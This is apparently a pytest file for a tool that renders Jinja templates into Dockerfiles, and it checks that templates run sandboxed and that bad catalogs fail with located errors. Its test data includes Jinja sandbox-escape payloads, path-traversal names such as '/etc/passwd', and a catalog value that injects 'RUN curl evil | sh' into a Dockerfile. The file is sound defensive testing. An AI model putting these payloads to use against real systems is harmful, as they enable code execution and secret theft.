"""Templates run sandboxed, strict and rooted; problems read `template:line: message`."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from compiler.errors import EnvcError
from compiler.render.templating import render, template_environment
from compiler.validate.catalog import BaseImageCatalog, load_catalog
from tests.conftest import PROJECT


def repo_with(tmp_path: Path, templates: dict[str, str]) -> Path:
    root = tmp_path / "repo"
    for name, text in templates.items():
        (root / "templates" / name).parent.mkdir(parents=True, exist_ok=True)
        (root / "templates" / name).write_text(text)
    return root


def test_renders_with_context_and_keeps_the_final_newline(tmp_path: Path) -> None:
    root = repo_with(tmp_path, {"hello.j2": "FROM {{ image }}\n"})
    assert render(template_environment(root), "hello.j2", {"image": "debian"}) == "FROM debian\n"


def test_repository_templates_override_the_packaged_ones(tmp_path: Path) -> None:
    root = repo_with(
        tmp_path,
        {
            "base-images.yaml": "catalog_version: 1\nmicromamba: m\n"
            "cpu: my/cpu\ngpu: {'12.4': my/gpu}\npython: my/python:{version}\n"
        },
    )
    assert load_catalog(root).cpu == "my/cpu"
    assert load_catalog(None).cpu == "docker.io/library/debian:bookworm-slim"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("line one\n{{ missing }}\n", "broken.j2:2: 'missing' is undefined"),
        ("a\nb\n{% if %}\n", "broken.j2:3: "),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}\n", "broken.j2:1: "),
        ("x\n{{ cycler.__init__.__globals__ }}\n", "broken.j2:2: "),
    ],
)
def test_template_problems_are_located_errors(tmp_path: Path, text: str, expected: str) -> None:
    root = repo_with(tmp_path, {"broken.j2": text})
    with pytest.raises(EnvcError) as raised:
        render(template_environment(root), "broken.j2", {})
    assert str(raised.value).startswith(expected)
    assert "Traceback" not in str(raised.value)


def test_loader_refuses_escapes(tmp_path: Path) -> None:
    (tmp_path / "secret.j2").write_text("token\n")
    root = repo_with(tmp_path, {"ok.j2": "ok\n"})
    (root / "templates" / "link.j2").symlink_to(tmp_path / "secret.j2")
    environment = template_environment(root)
    for name in ("../secret.j2", "link.j2", "/etc/passwd"):
        with pytest.raises(EnvcError, match="template not found"):
            render(environment, name, {})


def test_catalog_picks_default_base_images() -> None:
    catalog = load_catalog(None)
    assert catalog.for_environment("gpu", "12.1", "3.12", True).endswith(
        "nvidia/cuda:12.1.1-runtime-ubuntu22.04"
    )
    # gpu_default, not the newest (CUDA 13 needs drivers few clusters have yet)
    assert catalog.gpu_default == "12.4" and max(catalog.gpu, key=lambda v: v.split(".")) != "12.4"
    assert "cuda:12.4" in catalog.for_environment("gpu", None, None, True)
    newest = BaseImageCatalog(catalog.micromamba, catalog.cpu, catalog.gpu, catalog.python)
    assert "cuda:13.0" in newest.for_environment("gpu", None, None, True)  # without it
    assert catalog.for_environment("cpu", None, "3.11.4", False) == (
        "docker.io/library/python:3.11-slim-bookworm"
    )
    assert catalog.for_environment("cpu", None, None, True) == catalog.cpu
    with pytest.raises(EnvcError, match=r"no default base image for CUDA 9\.2; the catalog has"):
        catalog.for_environment("gpu", "9.2", None, True)
    with pytest.raises(EnvcError, match="needs python"):
        catalog.for_environment("cpu", None, None, False)


def test_a_broken_catalog_is_a_clear_error(tmp_path: Path) -> None:
    root = repo_with(tmp_path, {"base-images.yaml": "catalog_version: 1\ncpu: x\n"})
    with pytest.raises(EnvcError, match="not a valid base-image catalog"):
        load_catalog(root)


def test_the_committed_catalog_schema_is_generated() -> None:
    from compiler.validate.catalog import catalog_json_schema

    committed = json.loads((PROJECT / "schemas/catalog.schema.json").read_text())
    assert committed == catalog_json_schema()


CATALOG = (
    "catalog_version: 1\nmicromamba: m/mm:1\ncpu: my/cpu\ngpu: {'12.4': my/gpu}\n"
    "python: my/python:{version}\n"
)


@pytest.mark.parametrize(
    ("change", "where"),
    [
        (("cpu: my/cpu", 'cpu: "my/cpu\\nRUN curl evil | sh"'), ":3:6:"),
        (("gpu: {'12.4': my/gpu}", "gpu: {}"), ":4:6:"),
        (("gpu: {'12.4': my/gpu}", "gpu: {'twelve': my/gpu}"), ":4:"),
        (("python: my/python:{version}", "python: my/python:3.12"), ":5:9:"),
        (("micromamba: m/mm:1\n", ""), ":1:1:"),
        (("catalog_version: 1", "catalog_version: 99999999999999999999"), ":1:18:"),
        (("python: my", "gpu_default: '11.8'\npython: my"), ":5:14: not a valid base-image"),
    ],
)
def test_a_hostile_catalog_is_a_located_error(
    tmp_path: Path, change: tuple[str, str], where: str
) -> None:
    root = repo_with(tmp_path, {"base-images.yaml": CATALOG.replace(*change)})
    with pytest.raises(EnvcError) as raised:
        load_catalog(root)
    message = str(raised.value)
    assert message.startswith(str(root / "templates/base-images.yaml")), message
    assert where in message and "not a valid base-image catalog" in message


def test_a_catalog_or_template_that_is_a_fifo_is_refused_not_waited_on(tmp_path: Path) -> None:
    import os

    root = repo_with(tmp_path, {"ok.j2": "ok\n"})
    os.mkfifo(root / "templates" / "base-images.yaml")
    os.mkfifo(root / "templates" / "Dockerfile.pip.j2")
    with pytest.raises(EnvcError, match="not a regular file"):
        load_catalog(root)
    with pytest.raises(EnvcError, match="not a regular file"):
        render(template_environment(root), "Dockerfile.pip.j2", {})


@pytest.mark.parametrize(
    "text",
    [
        "{% include 'broken.j2' %}\n",  # includes itself for ever
        "{{ 1 / 0 }}\n",
        "{{ [][1] }}\n",
        "{{ {}['x'] }}\n",
        "{{ 'a' + 1 }}\n",
        "{{ range(10) | max(attribute='nope') }}\n",
        "{{ ''.join(range(3)) }}\n",
    ],
)
def test_a_repository_template_that_fails_is_an_error_with_its_name(
    tmp_path: Path, text: str
) -> None:
    root = repo_with(tmp_path, {"broken.j2": text})
    with pytest.raises(EnvcError) as raised:
        render(template_environment(root), "broken.j2", {})
    assert str(raised.value).startswith("broken.j2")
